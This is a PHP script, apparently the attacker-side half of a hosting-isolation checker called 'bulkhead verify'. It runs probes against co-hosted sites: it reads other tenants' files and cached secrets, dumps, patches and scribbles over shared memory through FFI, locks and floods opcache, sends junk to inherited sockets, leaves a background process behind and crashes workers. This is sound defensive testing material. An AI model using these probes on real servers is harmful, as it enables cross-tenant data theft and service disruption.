<?php
// The attacker's PHP half of `bulkhead verify`: a script in the attacker's own web root, removed
// after the run. It models a site under full control: FFI stands for native code in the worker.
// Answers one JSON object; it is never told a marker, only where to look.
declare(strict_types=1);
set_error_handler(static fn() => true);
error_reporting(0);
// Only verify itself may ask: else whoever reads the request in a log could have this script work for
// him. The word comes in a header, which no log keeps.
if (!hash_equals('@TOKEN@', $_SERVER['HTTP_X_BHV_TOKEN'] ?? '')) {
    http_response_code(403);
    exit;
}

function refused(string $step): array {
    $said = error_get_last()['message'] ?? '';
    $known = ['Permission denied' => 13, 'No such file' => 2, 'Operation not permitted' => 1,
              'Not a directory' => 20, 'Function not implemented' => 38];
    foreach ($known as $text => $errno) {
        if (str_contains($said, $text)) {
            return ['errno' => $errno, 'step' => $step];
        }
    }
    return ['errno' => 0, 'step' => $step . ($said === '' ? '' : ": $said")];
}
function obtained(string $got): array { return ['got' => substr($got, 0, 65536), 'done' => true]; }
function cannot(string $why): array { return ['cannot' => $why]; }

// Addresses are plain numbers here: each function is declared with them where C has pointers.
function ffi(): FFI {
    static $c = null;
    return $c ??= FFI::cdef('
        uintptr_t memmem(uintptr_t, size_t, const char *, size_t);
        uintptr_t memcpy(uintptr_t, const char *, size_t);
        int mincore(uintptr_t, size_t, unsigned char *);
        int raise(int);
        long send(int, const char *, size_t, int);
        struct flock { short l_type, l_whence; long l_start, l_len; int l_pid; };
        int fcntl(int, int, struct flock *);', 'libc.so.6');
}
function peek(int $address, int $length): string {
    static $c = null;
    $c ??= FFI::cdef('void *memcpy(char *, uintptr_t, size_t);', 'libc.so.6');
    $buffer = FFI::new("char[$length]");
    $c->memcpy($buffer, $address, $length);
    return FFI::string($buffer, $length);
}
function has_ffi(): bool {
    try {
        ffi();
        return true;
    } catch (Throwable) {
        return false;
    }
}

/** Shared writable mappings of this worker: [[start, length, name], ...]. */
function shared_mappings(): array {
    $out = [];
    foreach (file('/proc/self/maps') ?: [] as $line) {
        if (preg_match('/^([0-9a-f]+)-([0-9a-f]+) rw-s \S+ \S+ \S+ *(.*)$/', $line, $m)) {
            $out[] = [hexdec($m[1]), hexdec($m[2]) - hexdec($m[1]), $m[3]];
        }
    }
    return $out;
}
/** Calls $each(address) for every place in resident shared memory where $text stands. */
function search_shared(string $text, callable $each): void {
    $c = ffi();
    foreach (shared_mappings() as [$start, $length]) {
        for ($at = $start; $at < $start + $length; $at += 65536) {
            // Pages nobody touched hold nothing, and touching them would cost memory.
            $in = FFI::new('unsigned char[16]');
            $c->mincore($at, min(65536, $start + $length - $at), $in);
            $resident = false;
            for ($i = 0; $i < 16; $i++) {
                $resident = $resident || ($in[$i] & 1);
            }
            if (!$resident) {
                continue;
            }
            $from = $at;
            $end = min($at + 65536 + 16, $start + $length - 40);
            while (($address = $c->memmem($from, $end - $from, $text, strlen($text))) !== 0) {
                $each($address);
                $from = $address + 1;
            }
        }
    }
}

function include_cached(): array {
    @include $_GET['secret'];
    if (isset($bhv_secret)) {
        return obtained($bhv_secret);
    }
    $open = @fopen($_GET['secret'], 'r');
    return $open ? obtained(stream_get_contents($open)) : refused('include ' . $_GET['secret']);
}
function dump_shared(): array {
    if (!has_ffi()) {
        return cannot('FFI is off in this site');
    }
    $found = '';
    search_shared($_GET['prefix'], function (int $at) use (&$found) {
        $found .= peek($at, 40) . "\n";
    });
    return $found === '' ? ['errno' => 2, 'step' => 'find the marker in shared memory'] : obtained($found);
}
/** Changes the evidence in shared memory for a second and a half, then puts it back. */
function patch_shared(): array {
    if (!has_ffi()) {
        return cannot('FFI is off in this site');
    }
    $saved = [];
    $prefix = $_GET['prefix'];
    search_shared($prefix, function (int $at) use (&$saved, $prefix) {
        $text = peek($at, 32);
        // An own request's parameters hold the bare prefix; evidence goes on with hex digits.
        if (preg_match('/^[0-9a-f]{20}/', substr($text, strlen($prefix)))) {
            $saved[$at] = $text;
            ffi()->memcpy($at, strrev($text), 32);
        }
    });
    usleep(1500000);
    foreach ($saved as $at => $text) {
        ffi()->memcpy($at, $text, 32);
    }
    return $saved ? obtained(count($saved) . ' places') : ['errno' => 2, 'step' => 'find the evidence in shared memory'];
}
function opcache_list(): array {
    $status = opcache_get_status(true);
    if (!$status) {
        return cannot('opcache is off in this site');
    }
    return obtained(implode("\n", array_keys($status['scripts'] ?? [])));
}
function opcache_drop(): array {
    return opcache_invalidate($_GET['secret'], true) ? obtained('opcache_invalidate said yes')
        : ['errno' => 2, 'step' => 'opcache_invalidate'];
}
function hold_opcache_lock(): array {
    if (!has_ffi()) {
        return cannot('FFI is off in this site');
    }
    // A worker that may not be dumped cannot list its descriptors; trying them all is as good.
    $held = 0;
    $lock = ffi()->new('struct flock');
    $lock->l_type = 1;   // F_WRLCK of the first byte, which opcache locks to write
    $lock->l_len = 1;
    for ($fd = 3; $fd < 64; $fd++) {
        $held += ffi()->fcntl($fd, 6, FFI::addr($lock)) === 0 ? 1 : 0;
    }
    usleep(2500000);
    return $held ? obtained("held locks on $held files") : ['errno' => 2, 'step' => 'lock any inherited file'];
}
function fill_opcache(): array {
    $dir = $_GET['own_root'];
    for ($i = 0; $i < 30; $i++) {
        $path = "$dir/{$_GET['tag']}-fill$i.php";
        $code = "<?php\n";
        for ($j = 0; $j < 300; $j++) {
            $code .= "function bhv_{$i}_$j(\$a) { return \$a . '" . bin2hex(random_bytes(60)) . "' . \$a; }\n";
        }
        file_put_contents($path, $code);
        touch($path, time() - 60);
        opcache_compile_file($path);
        unlink($path);
    }
    return obtained('compiled 30 scripts');
}
function apcu_read(): array {
    if (!function_exists('apcu_fetch')) {
        return cannot('APCu is not installed');
    }
    $value = apcu_fetch($_GET['tag']);
    return is_string($value) ? obtained($value) : ['errno' => 2, 'step' => 'apcu_fetch'];
}
function leave_traces(): array {
    putenv('BHV_TRACE=' . $_GET['tag']);
    ini_set('user_agent', $_GET['tag']);
    chdir('/tmp');
    umask(0);
    return obtained('left an environment variable, a setting, a directory and a umask');
}
function worker_descriptors(): array {
    $all = '';
    foreach (scandir('/proc/self/fd') ?: [] as $fd) {
        $all .= @readlink("/proc/self/fd/$fd") . "\n";
    }
    return $all === '' ? refused('list /proc/self/fd') : obtained($all);
}
/** Random bytes over every shared page, our own script's among them. */
function scribble(): array {
    if (!has_ffi()) {
        return cannot('FFI is off in this site');
    }
    $c = ffi();
    $noise = random_bytes(4096);
    foreach (shared_mappings() as [$start, $length, $name]) {
        for ($at = $start; $at < $start + $length; $at += 4096) {
            $in = FFI::new('unsigned char[1]');
            $c->mincore($at, 4096, $in);
            if ($in[0] & 1) {
                $c->memcpy($at, $noise, 4096);
            }
        }
    }
    return obtained('wrote over every shared page');
}
function garble_channels(): array {
    if (!has_ffi()) {
        return cannot('FFI is off in this site');
    }
    $c = ffi();
    $sent = 0;
    for ($fd = 3; $fd < 64; $fd++) {
        for ($i = 1; $i <= 64; $i++) {
            // MSG_DONTWAIT | MSG_NOSIGNAL; what is not a socket refuses it
            $sent += $c->send($fd, random_bytes($i), $i, 0x4040) > 0 ? 1 : 0;
        }
    }
    return obtained("sent $sent pieces of noise");
}
function spin(float $seconds): array {
    set_time_limit(0);
    ignore_user_abort(true);
    for ($until = microtime(true) + $seconds; microtime(true) < $until;) {
    }
    return obtained('span');
}
function crash(): array {
    has_ffi() ? ffi()->raise(11) : posix_kill(getmypid(), 11);
    return obtained('still alive');
}
function flood_headers(): array {
    for ($i = 0; $i < 2000; $i++) {
        header("X-Flood-$i: " . str_repeat('x', 4000));
    }
    return obtained('8 MB of headers');
}
function daemonise(): array {
    if (!has_ffi()) {
        return cannot('FFI is off in this site');
    }
    $c = FFI::cdef('int fork(void); int setsid(void); unsigned sleep(unsigned);
                    int prctl(int, const char *, long, long, long); void _exit(int);
                    int waitpid(int, int *, int);', 'libc.so.6');
    $child = $c->fork();
    if ($child < 0) {
        return ['errno' => 1, 'step' => 'fork'];
    }
    if ($child === 0) {
        $c->setsid();
        if ($c->fork() === 0) {
            $c->prctl(15, substr($_GET['tag'], 0, 15), 0, 0, 0);   // PR_SET_NAME
            $c->sleep(120);
        }
        $c->_exit(0);
    }
    $c->waitpid($child, null, 0);
    return obtained('left a process in the background');
}

$probes = [
    'B1' => include_cached(...), 'B2' => dump_shared(...), 'B3' => patch_shared(...),
    'B4' => opcache_list(...), 'B4b' => opcache_drop(...), 'B7' => hold_opcache_lock(...),
    'B8' => fill_opcache(...), 'B9' => apcu_read(...), 'B12' => leave_traces(...),
    'D5' => scribble(...), 'D6' => garble_channels(...), 'D7b' => worker_descriptors(...),
    'D11' => daemonise(...), 'E3' => static fn() => spin(3.5), 'E8' => crash(...),
    'E6' => static fn() => usleep(3500000) ?? obtained('slept'), 'E9' => flood_headers(...),
];
if (isset($_GET['redirect'])) {
    header('X-Accel-Redirect: ' . $_GET['redirect']);
    exit;
}
header('Content-Type: application/json');
$run = $probes[$_GET['probe'] ?? ''] ?? static fn() => cannot('no such attack');
echo json_encode($run(), JSON_INVALID_UTF8_SUBSTITUTE), "\n";
